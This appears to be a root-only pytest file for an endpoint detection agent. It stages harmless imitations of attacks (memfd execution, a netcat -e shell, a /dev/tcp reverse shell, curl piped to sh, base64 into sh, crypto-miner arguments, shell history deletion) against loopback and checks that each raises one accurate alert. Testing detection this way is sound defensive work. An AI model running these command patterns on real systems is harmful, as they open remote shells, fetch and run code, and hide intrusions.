"""Real, harmless attacks each raise their alert once and say what is true; a day's work raises none.

Nothing of the system is touched: programs are copies of ``true`` in fresh directories, listeners are on loopback.
"""

import base64
import contextlib
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from microedr_standalone.client import Client, find_endpoint
from support.system import System

pytestmark = pytest.mark.root

PATIENCE_S = 20.0
NOBODY = 65534
Attack = Callable[[Path], int]
"""Given a directory of its own; returns the pid that must be in the alert."""


@pytest.fixture(scope="module")
def system(tmp_path_factory: pytest.TempPathFactory) -> Iterator[System]:
    assert os.geteuid() == 0, "the whole system needs root for its agent: run the tests as root"
    root = tmp_path_factory.mktemp("attacks")
    root.parent.chmod(0o755)  # the agent's unprivileged processes pass through
    root.chmod(0o755)
    with System(root) as running:
        yield running


@pytest.fixture(scope="module")
def api(system: System) -> Iterator[Client]:
    with Client(find_endpoint(system.state_dir)) as client:
        yield client


def _run(*command: str | Path, **options: Any) -> int:
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    process = subprocess.Popen(command, **{**quiet, **options})
    process.wait(10)
    return process.pid


def _execute(fd: int, *argv: str) -> int:
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(OSError):
            os.execve(fd, argv, {})  # noqa: S606 - a shell would show
        os._exit(127)
    os.waitpid(pid, 0)
    return pid


def _fake(directory: Path, name: str) -> Path:
    directory.chmod(0o755)
    return Path(shutil.copy("/bin/true", directory / name))


def _from_memory(_: Path) -> int:
    fd = os.memfd_create("implant")
    os.write(fd, Path("/bin/true").read_bytes())
    return _execute(fd, "kworker/0:1")


def _from_deleted(directory: Path) -> int:
    path = _fake(directory, "dropper")
    fd = os.open(path, os.O_RDONLY)
    path.unlink()
    try:
        return _execute(fd, "dropper")
    finally:
        os.close(fd)


def _from_shared_memory(directory: Path) -> int:
    path = Path(shutil.copy("/bin/true", f"/dev/shm/{directory.name}"))
    try:
        return _run(path, "--payload")
    finally:
        path.unlink()


def _base64(_: Path) -> int:
    return _run("sh", "-c", f"echo {base64.b64encode(b'true').decode()} | base64 -d | sh")


def _netcat(directory: Path) -> int:
    return _run(_fake(directory, "nc"), "-e", "/bin/sh", "127.0.0.1", "4444")


def _miner(_: Path) -> int:
    words = ("-o", "stratum+tcp://pool.example:3333", "--donate-level", "1")
    with tempfile.TemporaryDirectory() as place:  # pytest's own is closed to other users
        return _run(_fake(Path(place), "kdevtmpfsi"), *words, user=NOBODY, group=NOBODY, extra_groups=[], cwd="/")


def _reverse_shell(_: Path) -> int:
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            connection, _ = server.accept()
            with connection:
                connection.sendall(b"exit\n")
                connection.recv(1024)

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        pid = _run("bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{server.getsockname()[1]} 0>&1")
        thread.join(10)
        return pid


def _history(directory: Path) -> int:
    (directory / ".bash_history").touch()
    return _run("rm", "-f", directory / ".bash_history")


def _crontab(directory: Path) -> int:
    pid_file = directory / "pid"
    program = _fake(directory, "crontab")
    _run("sh", "-c", f"echo '* * * * * true' | (echo $BASHPID > {pid_file}; exec {program} -)", executable="/bin/bash")
    return int(pid_file.read_text())


def _fetch(_: Path) -> int:
    return _run("sh", "-c", "curl -s http://127.0.0.1:1/x.sh | sh")


@pytest.mark.parametrize(
    ("attack", "title", "severity", "told"),
    [
        pytest.param(_from_memory, "Program executed from an anonymous memory file", "critical", "implant", id="memfd"),
        pytest.param(_from_deleted, "Program executed from a deleted file", "high", "dropper", id="deleted"),
        pytest.param(_from_shared_memory, "Program executed from shared memory", "high", "--payload", id="shm"),
        pytest.param(_base64, "Base64 decoded straight into an interpreter", "high", "base64 -d | sh", id="base64"),
        pytest.param(_netcat, "Netcat hands a connection to a program", "critical", "-e /bin/sh", id="netcat"),
        pytest.param(_miner, "Arguments of a crypto miner", "high", "user nobody", id="miner"),
        pytest.param(
            _reverse_shell, "Reverse shell through the shell's /dev/tcp", "critical", "/dev/tcp/127", id="reverse shell"
        ),
        pytest.param(_history, "Shell history removed or switched off", "high", ".bash_history", id="history"),
        pytest.param(_crontab, "Crontab replaced from a pipe or a temporary file", "medium", "crontab -", id="cron"),
        pytest.param(_fetch, "Remote fetch piped to a shell", "high", "curl -s", id="fetch"),
    ],
)
def test_an_attack_raises_its_alert_once_with_its_story(  # noqa: PLR0913, PLR0917 - one row of the table
    api: Client, tmp_path: Path, attack: Attack, title: str, severity: str, told: str
) -> None:
    began_unix_ns = time.time_ns()
    pid = attack(tmp_path)
    (alert,) = _alerts_of(api, pid)

    assert (alert["title"], alert["severity"]) == (title, severity)
    assert told in alert["summary"]
    assert began_unix_ns <= alert["event_unix_ns"] <= time.time_ns()
    assert alert["match_count"] == 1
    assert alert["evidence_complete"]
    assert alert["evidence"][0]["event"]["process"]["pid"] == pid
    # It was this process that started it: by fork, shell or both.
    assert os.getpid() in [node["pid"] for node in alert["process_tree"]]
    assert alert["entities"]["user"] == ("nobody" if attack is _miner else "root")


def test_the_shell_that_a_reverse_shell_opens_tells_where_it_is_connected(api: Client, tmp_path: Path) -> None:
    pid = _reverse_shell(tmp_path)
    found = _wait(
        lambda: [
            alert
            for alert in _all(api)
            if alert["title"].startswith("Interactive shell with a socket") and alert["entities"]["ppid"] == pid
        ]
    )

    assert len(found) == 1
    assert "it connected to 127.0.0.1:" in found[0]["summary"]


_WORK = """
set -e
git -C {checkout} -c safe.directory='*' log --oneline -n 20
printf 'all: t\\nt: t.c\\n\\t$(CC) -o t t.c\\n' > Makefile
printf 'int main(void) {{ return 0; }}\\n' > t.c
if command -v cc; then make; ./t; fi
{python} -c 'import json, subprocess; subprocess.run(["sh", "-c", "ls / | grep -c bin; id"], check=True)'
{python} -m zipfile -c a.zip t.c
tar czf t.tgz t.c; gzip -dc t.tgz > t.tar; base64 t.c > t.b64; base64 -d t.b64 > t2.c
curl -s -o page http://127.0.0.1:1/ || true
find . -name '*.c' -exec cat {{}} + > all; sort all; crontab -l || true
"""


def test_ordinary_work_raises_no_alert(api: Client, tmp_path: Path) -> None:
    before = {alert["alert_id"] for alert in _all(api)}
    script = _WORK.format(checkout=Path(__file__).parents[2], python=sys.executable)
    done = subprocess.run(["bash", "-c", script], cwd=tmp_path, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    pid = _base64(tmp_path)  # whoever sees this one has seen all before it
    _alerts_of(api, pid)
    after = _all(api)
    new = [alert["summary"] for alert in after if alert["alert_id"] not in before and alert["entities"]["pid"] != pid]

    assert [summary for summary in new if str(tmp_path) in summary or "base64" in summary] == []


def _all(api: Client) -> list[dict[str, Any]]:
    return list(api.items("/v1/alerts", {}, 1000))


def _alerts_of(api: Client, pid: int) -> list[dict[str, Any]]:
    """Alerts about ``pid``, with all their evidence, once there is one and a second has passed."""

    def listed() -> list[dict[str, Any]]:
        return [alert for alert in _all(api) if alert["entities"]["pid"] == pid]

    _wait(listed)
    time.sleep(0.5)  # a second alert about it would follow at once
    return [api.get(f"/v1/alerts/{alert['alert_id']}") for alert in listed()]


def _wait(look: Callable[[], list[dict[str, Any]]]) -> list[dict[str, Any]]:
    deadline_s = time.monotonic() + PATIENCE_S
    while not (found := look()):
        assert time.monotonic() < deadline_s, "the alert did not come"
        time.sleep(0.2)
    return found
